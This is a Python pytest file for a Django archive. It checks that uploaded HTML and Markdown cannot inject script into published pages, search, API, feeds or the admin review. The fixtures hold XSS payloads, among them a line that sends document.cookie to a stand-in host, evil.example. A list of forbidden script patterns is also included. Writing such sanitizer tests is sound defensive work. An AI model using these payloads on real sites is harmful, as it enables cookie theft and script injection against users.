"""Uploaded HTML or Markdown never runs script on our pages.

The readers keep text only: markup is parsed and dropped, and pages escape what remains.
These tests send script, event handlers and javascript: links through the whole path
(upload → reader → extraction → database → published page, search, API and feed).
"""

from __future__ import annotations

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from archive.ingest.pipeline import ingest_source
from archive.ingest.sources import Source
from archive.models import Communique
from search import queue

pytestmark = pytest.mark.django_db

HOSTILE_HTML = b"""<!doctype html><html><head>
<title>Council statement <script>alert(1)</script></title>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<style>body{background:url(javascript:alert(2))}</style></head>
<body><article><h1>Final communique of the hostile council</h1>
<p onclick="alert(3)">The council met in Geneva on 3 May 2021 and called for calm.</p>
<p><a href="javascript:alert(4)">Read more</a> <img src=x onerror="alert(5)"></p>
<p>It urged &lt;script&gt;alert(6)&lt;/script&gt; restraint <iframe src="https://evil.example"></iframe>
and <svg onload="alert(7)"><script>alert(8)</script></svg> dialogue.</p>
</article></body></html>"""

HOSTILE_MD = b"""---
title: "Statement <script>alert(9)</script>"
---
# Final communique of the markdown council

The council met in Geneva on 3 May 2021 and called for calm.

<script>alert(10)</script>

[Read more](javascript:alert(11)) and <img src=x onerror=alert(12)>
<a href="javascript:alert(13)" onmouseover="alert(14)">hover</a>
"""

FORBIDDEN = ["<script", "javascript:", "onerror=", "onclick=", "onload=", "<iframe", "<svg on"]


@pytest.fixture(autouse=True)
def no_background_drain(settings):
    settings.BAYAN_INDEX_IN_BACKGROUND = False


@pytest.mark.parametrize("name,data", [("page.html", HOSTILE_HTML), ("note.md", HOSTILE_MD)])
def test_hostile_markup_never_reaches_a_page_as_markup(client, name, data):
    result = ingest_source(Source(name=name, data=data, error=None), publish=True)
    assert result.outcome == "imported", result.message
    c = Communique.objects.get()
    stored = " ".join([c.title, *(p.text for p in c.paragraphs.all())])
    # Scripts, handlers and links are dropped with the markup; only text written as text
    # ("&lt;script&gt;" in the page, alert(6)) is kept, as text.
    for n in (1, 2, 3, 4, 5, 7, 8, 9, 10, 12, 13, 14):
        assert f"alert({n})" not in stored, n
    assert "onerror" not in stored and "onclick" not in stored and "javascript:" not in stored
    queue.drain()
    for url in [
        c.get_absolute_url(),
        "/search/?q=council",
        "/api/search/?q=council",
        f"/api/communiques/{c.public_id}/",
        "/feeds/latest.atom",
        "/",
    ]:
        response = client.get(url)
        lowered = response.content.decode().lower()
        if response["Content-Type"].startswith("application/json"):
            # Data, not markup: text that looks like a tag is a JSON string, served as JSON
            # with nosniff; API clients escape it like any other text.
            assert response["X-Content-Type-Options"] == "nosniff"
            assert "javascript:" not in lowered
            continue
        # Our own templates load scripts from files only: any inline script or handler
        # would have come from the upload.
        for bad in FORBIDDEN:
            if bad == "<script":
                assert lowered.count("<script") == lowered.count("<script src="), url
            else:
                assert bad not in lowered, (url, bad)


def test_escaped_text_that_looks_like_markup_stays_text(client):
    ingest_source(Source(name="page.html", data=HOSTILE_HTML, error=None), publish=True)
    c = Communique.objects.get()
    body = client.get(c.get_absolute_url()).content.decode()
    if "alert(6)" in body:  # the literal text "<script>alert(6)</script>" of the page
        assert "&lt;script&gt;alert(6)" in body


def test_an_admin_upload_of_hostile_markup_is_inert_in_the_review(client, db):
    from django.contrib.auth.models import User

    client.force_login(User.objects.create_superuser("boss", password="pw-123-long"))
    client.post(
        "/admin/archive/communique/upload/",
        {"files": SimpleUploadedFile("page.html", HOSTILE_HTML)},
    )
    c = Communique.objects.get()
    body = client.get(f"/admin/archive/communique/{c.pk}/change/").content.decode().lower()
    assert "alert(" not in body or "<script>alert" not in body
    assert "javascript:alert" not in body and "onerror=" not in body
